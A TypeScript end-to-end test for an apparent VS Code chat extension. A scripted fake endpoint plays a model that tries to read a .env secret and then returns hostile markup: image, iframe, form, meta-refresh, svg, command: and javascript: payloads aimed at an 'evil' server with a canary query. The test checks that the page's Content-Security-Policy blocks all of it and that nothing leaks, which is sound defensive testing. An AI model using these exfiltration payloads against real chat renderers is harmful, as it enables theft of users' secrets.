// Every state of the page in the real VS Code, with answers that a local endpoint plays: question to the user, refused
// tool, table and code, hostile markup, a refused key. None may break the page's Content-Security-Policy or reach out.
import assert from "node:assert/strict"
import { endedAnswer } from "../../scripts/vscodeHost/chatPage.ts"
import { ospreyTest } from "../support/ospreyInVsCode.ts"
import {
  delta,
  eventReply,
  finished,
  jsonReply,
  type Script,
  startScriptedEndpoint,
} from "../support/scriptedEndpoint.ts"

const evil = await startScriptedEndpoint(() => jsonReply(200, {}))

const tableAndCode = `## Result

| name | count |
|:-----|------:|
| a    |     1 |

\`\`\`ts
export const answer: number = 42
\`\`\`

- [x] done
- a [link](https://example.org)
`

const hostile = [
  `![x](${evil.origin}/p.png?d=CANARY) ![y](data:image/svg+xml,<svg/>)`,
  `<img src="${evil.origin}/a.png" onerror="fetch('${evil.origin}/b')">`,
  `<iframe src="${evil.origin}/c"></iframe><object data="${evil.origin}/d"></object>`,
  `<link rel="stylesheet" href="${evil.origin}/e.css"><meta http-equiv="refresh" content="0;url=${evil.origin}/f">`,
  `<form action="${evil.origin}/g"><input type="image" src="${evil.origin}/h.png"></form>`,
  `<svg><image href="${evil.origin}/i.png"/></svg><base href="${evil.origin}/"><style>p{color:red}</style>`,
  "[run](command:workbench.action.quit) [js](javascript:alert(1)) <script>alert(1)</script>",
].join("\n\n")

const script: Script = ({ index }) => {
  switch (index) {
    case 0:
      return eventReply(
        delta({ role: "assistant", reasoning_content: "The user wants the secret." }),
        delta({
          tool_calls: [
            {
              index: 0,
              id: "call_1",
              type: "function",
              function: { name: "read_file", arguments: '{"path":".env"}' },
            },
          ],
        }),
        finished("tool_calls"),
      )
    case 1:
      return eventReply(delta({ content: tableAndCode }), finished())
    case 2:
      return eventReply(delta({ content: hostile }), finished())
    default:
      return jsonReply(401, { error: { message: "invalid api key" } })
  }
}

const endpoint = await startScriptedEndpoint(script)

const settings = {
  "osprey.chat.model": `${endpoint.baseUrl} openai/gpt-oss-20b`,
}

ospreyTest(
  "no state of the page breaks its policy or reaches out",
  { files: { ".env": "KEY=CANARY-SECRET\n" }, settings, servers: [endpoint, evil] },
  async osprey => {
    const chat = await osprey.chat()
    const unbroken = () => assert.deepEqual(osprey.violations(), [])
    unbroken()

    const asked = await chat.ask("Read .env")
    const question = asked.getByRole("alertdialog")
    await question.waitFor()
    assert.match(await question.innerText(), /\.env/)
    unbroken()
    // The card takes an answer only when it has been there for a moment, so that nobody answers by accident.
    while (await question.isVisible())
      await question
        .locator(".refuse")
        .click({ timeout: 1_000 })
        .catch(() => {})
    await endedAnswer(asked)
    assert.doesNotMatch(JSON.stringify(endpoint.requests), /CANARY-SECRET/)
    await asked.getByRole("table").waitFor()
    await asked.getByRole("button", { name: /\.env/ }).click()
    unbroken()

    const attacked = await chat.ask("Attack")
    await endedAnswer(attacked)
    const dangerous = "img, iframe, object, embed, link, meta, form, input, base, style, script, svg image"
    assert.equal(await attacked.locator(dangerous).count(), 0)
    assert.equal(await attacked.locator('a[href^="command:"], a[href^="javascript:"]').count(), 0)
    assert.match(await attacked.innerText(), /<iframe/)
    unbroken()

    const refused = await chat.ask("Once more")
    assert.match(await endedAnswer(refused), /refused the key|key/i)
    unbroken()
    assert.deepEqual(evil.requests, [])
  },
)
